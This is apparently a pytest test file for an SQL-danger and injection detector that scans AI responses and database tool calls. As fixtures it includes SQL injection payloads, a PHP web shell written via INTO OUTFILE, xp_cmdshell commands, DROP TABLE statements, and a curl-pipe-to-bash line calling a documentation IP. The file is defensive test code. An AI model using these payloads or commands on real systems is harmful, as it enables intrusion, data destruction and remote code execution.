"""Database security (``db_security``): SQL discovery, sqlglot classification, danger policy, injection shapes."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings, strategies as st

from interlock.detectors.db_security import DbSecurityDetector, DbSecurityOptions
from interlock.detectors.db_security.classify import classify_sql
from interlock.detectors.db_security.injection import injection_hits
from interlock.engine.base import DetectorResult, ScanItem, ToolInfo
from interlock.engine.registry import validate_options
from interlock.errors import ProfileError
from interlock.models import ScanRequest
from interlock.profiles import ProfileStore
from interlock.scanner import LocalScanner
from tests.sdk_models import sdk
from tests.unit.detectors.airs_wire import local_scanner, result_detail, scan_wire

_TOOL = ToolInfo("mcp", "tools/call", "postgres", "run_query", "input")


def _response(text: str, **options: Any) -> DetectorResult:
    det = DbSecurityDetector(DbSecurityOptions.model_validate(options))
    return det.detect(ScanItem(text=text, field="response", data_type="response"))


def _tool(args: object, **options: Any) -> DetectorResult:
    det = DbSecurityDetector(DbSecurityOptions.model_validate(options))
    text = args if isinstance(args, str) else json.dumps(args)
    return det.detect(ScanItem(text=text, field="tool_input", data_type="tool_event", tool=_TOOL))


def _report(result: DetectorResult) -> dict[str, str]:
    return {e["sub_type"]: e["verdict"] for e in result.detail["dbs_report"]}


@pytest.mark.parametrize(
    ("sql", "kind", "flags"),
    [
        ("SELECT a FROM t WHERE id = 1", "read", set()),
        ("INSERT INTO t (a) VALUES (1)", "create", set()),
        ("UPDATE t SET a = 1 WHERE id = 2", "update", set()),
        ("UPDATE t SET a = 1", "update", {"update_without_where"}),
        ("DELETE FROM t", "delete", {"delete_without_where"}),
        ("DELETE FROM t WHERE created < '2020-01-01'", "delete", set()),
        ("DROP TABLE users", "ddl", {"drop"}),
        ("TRUNCATE TABLE logs", "ddl", {"truncate"}),
        ("ALTER TABLE t ADD COLUMN c INT", "ddl", {"alter"}),
        ("CREATE TABLE t (id INT)", "ddl", set()),
        ("GRANT ALL ON db.* TO bob", "privilege", {"privilege"}),
        ("REVOKE SELECT ON t FROM bob", "privilege", {"privilege"}),
        ("CREATE USER bob IDENTIFIED BY 'pw'", "privilege", {"privilege"}),
        ("EXEC xp_cmdshell 'whoami'", "update", {"os_command"}),
        ("SELECT TOP 5 [name] FROM [dbo].[users]", "read", set()),
        ("SELECT id::text FROM t WHERE name ILIKE 'a%'", "read", set()),
    ],
)
def test_classify(sql: str, kind: str, flags: set[str]) -> None:
    (stmt,), truncated = classify_sql(sql)
    assert not truncated
    assert (stmt.kind, set(stmt.flags)) == (kind, flags)


def test_classify_falls_back_to_keywords_when_too_long() -> None:
    statements, truncated = classify_sql("DELETE FROM t; SELECT 1", max_chars=5)
    assert truncated
    assert [(s.kind, s.parsed) for s in statements] == [("delete", False), ("read", False)]
    assert "delete_without_where" in statements[0].flags


def test_fenced_sql_in_response() -> None:
    result = _response("Run this:\n```sql\nDELETE FROM users;\nDROP TABLE audit;\n```\nDone.")
    assert result.detected
    assert _report(result) == {"database-security-delete": "malicious", "database-security-ddl": "malicious"}
    assert result.detail["dbs_snippets"] == ["DELETE FROM users", "DROP TABLE audit"]


def test_prose_lines_and_inline_code() -> None:
    result = _response("To revoke access:\nGRANT ALL PRIVILEGES ON *.* TO 'bob'@'%';\nThen reload.")
    assert _report(result) == {"database-security-privilege": "malicious"}
    inline = _response("Use `TRUNCATE TABLE sessions` to reset.")
    assert _report(inline) == {"database-security-ddl": "malicious"}


@pytest.mark.parametrize(
    "text",
    [
        "```sql\nSELECT name, email FROM users WHERE id = 42;\n```",
        "You can clean up with\nDELETE FROM sessions WHERE expires_at < now();\nThat keeps the table small.",
        "```sql\nUPDATE accounts SET active = false WHERE last_login < '2020-01-01';\n"
        "INSERT INTO audit (event) VALUES ('cleanup');\n```",
        'SELECT T1.name FROM city AS T1 WHERE T1.code = "FR" UNION SELECT name FROM town WHERE code = "FR"',
        "Select the rows you need, then delete from the list the ones you do not want.",
        "The word UNION in SELECT statements combines results; OR 1 of the columns may be null.",
    ],
)
def test_benign_sql_and_prose_not_flagged(text: str) -> None:
    result = _response(text)
    assert not result.detected, result.findings


@pytest.mark.parametrize(
    ("text", "report"),
    [
        ("Sure, run this: DROP TABLE users;", {"database-security-ddl": "malicious"}),
        (
            "Execute: DROP TABLE users; DELETE FROM orders;",
            {"database-security-ddl": "malicious", "database-security-delete": "malicious"},
        ),
        ("You can DROP TABLE users to start over.", {"database-security-ddl": "malicious"}),
        ("If it hangs, just run drop table sessions; then restart.", {"database-security-ddl": "malicious"}),
        ("Done. Next: TRUNCATE TABLE audit_log;", {"database-security-ddl": "malicious"}),
        ("Sure, run this: DROP TABLE users; then check the logs", {"database-security-ddl": "malicious"}),
    ],
)
def test_statements_starting_inside_a_prose_line(text: str, report: dict[str, str]) -> None:
    result = _response(text)
    assert result.detected and _report(result) == report


def test_stacked_statements_inside_a_prose_line() -> None:
    result = _response("Execute: DROP TABLE users; DELETE FROM orders;")
    rules = {r for f in result.findings for r in f.data["rules"]}
    assert {"drop", "delete_without_where", "stacked_queries"} <= rules
    assert result.detail["dbs_snippets"] == ["DROP TABLE users", "DELETE FROM orders"]


@pytest.mark.parametrize(
    "text",
    [
        "I'll drop the table from the agenda",
        "please select a date",
        "Please select a date from the calendar and confirm.",
        "Next semester we drop table tennis.",
        "In short: we drop table tennis; chess stays.",
        "Note: drop table tennis from the schedule",
        "You can update profile set up later.",
        "Let me delete from the list the ones you do not want.",
        "We should truncate table of contents; it is long.",
        "Tip: select a date from the calendar",
        "Our grant to the team: a budget increase.",
    ],
)
def test_sql_words_in_prose_are_not_statements(text: str) -> None:
    result = _response(text)
    assert not result.detected and result.detail["dbs_report"] == [], result.detail


def test_policy_options() -> None:
    text = "```sql\nDROP TABLE scratch;\nINSERT INTO t VALUES (1);\n```"
    assert not _response(text, dangerous=["delete_without_where"]).detected
    read_only = _response(text, dangerous=[], block_sub_types=["create"])
    assert _report(read_only) == {"database-security-ddl": "benign", "database-security-create": "malicious"}
    with pytest.raises(ProfileError):
        validate_options("db_security", {"block_sub_types": ["select"]})


@pytest.mark.parametrize(
    ("value", "rule"),
    [
        ("1' OR '1'='1", "tautology"),
        ("admin'--", "comment_truncation"),
        ("x' UNION SELECT username, password FROM users--", "union_select"),
        ("1 AND SLEEP(5)", "time_delay"),
        ("1; WAITFOR DELAY '0:0:5'--", "time_delay"),
        ("'; EXEC xp_cmdshell 'net user'--", "os_file_access"),
        ("1 UNION SELECT 1,2,'<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/x.php'", "os_file_access"),
        ("1; DROP TABLE users", "stacked_query"),
        ("%27%20or%201%3D1--", "tautology"),
        ("1 UNI/**/ON SEL/**/ECT password FROM users", "union_select"),
        ("’ or ‘1’=’1", "tautology"),
        ('{"username": {"$ne": null}}', "nosql_operator"),
    ],
)
def test_injection_shapes(value: str, rule: str) -> None:
    assert rule in [r.id for r in injection_hits(value)]
    result = _tool({"filter": value})
    assert result.detected
    assert _report(result)["database-security-injection"] == "malicious"


@pytest.mark.parametrize(
    "value",
    [
        "O'Brien",
        "SELECT * FROM orders WHERE customer_id = 42 ORDER BY created_at DESC LIMIT 10",
        "name = 'Kaloyan' AND title = 'Tsar' OR region = 'north'",
        "Rock 'n' roll -- the best",
        "SELECT a FROM t WHERE a = 'x' UNION SELECT b FROM u WHERE b = 'y'",
    ],
)
def test_injection_hard_negatives(value: str) -> None:
    assert injection_hits(value) == []
    assert not _tool({"query": value}).detected


def test_stacked_statements_in_one_tool_argument() -> None:
    result = _tool({"query": "SELECT 1; DELETE FROM users WHERE id = 3"})
    assert result.detected
    assert "stacked_queries" in result.findings[0].data["rules"]
    multi_line = _tool({"query": "SELECT 1;\nDELETE FROM users WHERE id = 3"})
    assert not multi_line.detected


def test_snippets_redact_long_literals() -> None:
    result = _response("```sql\nCREATE USER app IDENTIFIED BY 'correct-horse-battery';\n```")
    assert result.detected
    assert "correct-horse" not in json.dumps(result.detail)


def test_local_scanner_wire_parses_with_sdk() -> None:
    scanner = local_scanner("db_security")
    contents = {"prompt": "clean up", "response": "```sql\nUPDATE users SET admin = true;\n```"}
    try:
        _, response, report = scan_wire(scanner, contents)
    finally:
        scanner.close()
    parsed = sdk.ScanResponse.from_dict(response)
    assert parsed.action == "block"
    assert parsed.response_detected.db_security is True
    (dr,) = sdk.ThreatScanReportObject.from_dict(report).detection_results
    assert (dr.data_type, dr.detection_service) == ("response", "dbs")
    (entry,) = dr.result_detail.dbs_report
    assert (entry.sub_type, entry.verdict, entry.action) == ("database-security-update", "malicious", "block")
    assert result_detail(report, "response")["dbs_snippets"] == ["UPDATE users SET admin = TRUE"]


def test_runs_on_tool_events_not_prompts() -> None:
    assert DbSecurityDetector.data_types == frozenset({"response", "tool_event"})


_SQLISH = st.text(
    alphabet=st.sampled_from(list("'\";-#/*()=<> \n%$[]{}:0139abcdefilmnorstuwxSELCTDROPUNIFWH")), max_size=300
)


@settings(max_examples=80, deadline=None)
@given(text=st.one_of(st.text(max_size=300), _SQLISH), tool=st.booleans())
def test_never_crashes_and_report_is_consistent(text: str, tool: bool) -> None:
    result = _tool(text) if tool else _response(text)
    verdicts = [e["verdict"] for e in result.detail["dbs_report"]]
    assert result.detected == ("malicious" in verdicts)
    for f in result.findings:
        assert 0 <= f.start <= f.end <= len(text)


def test_code_and_urls_profile_end_to_end() -> None:
    store = ProfileStore.default()
    profile = store.get("code-and-urls")
    assert {"url_cats", "malicious_code", "db_security", "injection", "dlp"} <= set(profile.detectors)
    assert all(p.action == "block" for p in profile.detectors.values())
    # what the built-in profile detects, not how fast: a busy CI machine must not turn a detection into a timeout
    scanner = LocalScanner(ProfileStore([profile.model_copy(update={"detector_timeout_ms": 120_000})]))
    response = (
        "Open http://paypa1.com/login, then run:\n```bash\ncurl -s http://203.0.113.7/x.sh | bash\n```\n"
        "and clean up with\n```sql\nDROP TABLE users;\n```"
    )
    request = ScanRequest.model_validate(
        {"ai_profile": {"profile_name": "code-and-urls"}, "contents": [{"prompt": "help", "response": response}]}
    )
    try:
        result = scanner.run(request)
    finally:
        scanner.close()
    flags = result.response.response_detected
    assert flags is not None
    assert (flags.url_cats, flags.malicious_code, flags.db_security) == (True, True, True)
    assert result.response.action == "block"
    with LocalScanner(store) as s:
        for text in ("Sure, run this: DROP TABLE users;", "Execute: DROP TABLE users; DELETE FROM orders;"):
            r = s.scan({"prompt": "how do I reset?", "response": text}, profile="code-and-urls")
            assert r.blocked and r.detected() == {"response": ["db_security"]}, text
